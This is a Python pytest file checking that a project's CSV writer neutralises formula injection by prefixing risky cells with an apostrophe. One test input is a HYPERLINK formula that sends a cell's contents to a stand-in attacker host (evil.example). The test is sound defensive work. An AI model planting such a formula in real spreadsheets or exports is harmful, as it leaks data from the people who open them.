import csv
import io

import pytest

from servicefit.core.csv import csv_cell, csv_write


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://evil.example/?"&A2,"Klik")', '\'=HYPERLINK("http://evil.example/?"&A2,"Klik")'),
        ("+45 12 34 56 78", "'+45 12 34 56 78"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Kundeservice Århus", "Kundeservice Århus"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (-3.5, -3.5),
        (42, 42),
    ],
)
def test_it_neutralises_cells_a_spreadsheet_would_run(value, written):
    assert csv_cell(value) == written


def test_it_writes_a_header_and_rows_in_column_order():
    out = io.StringIO()
    csv_write(out, columns=["name", "score"], rows=[{"score": -1.5, "name": "=1+1", "ignored": "x"}])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["name", "score"], ["'=1+1", "-1.5"]]
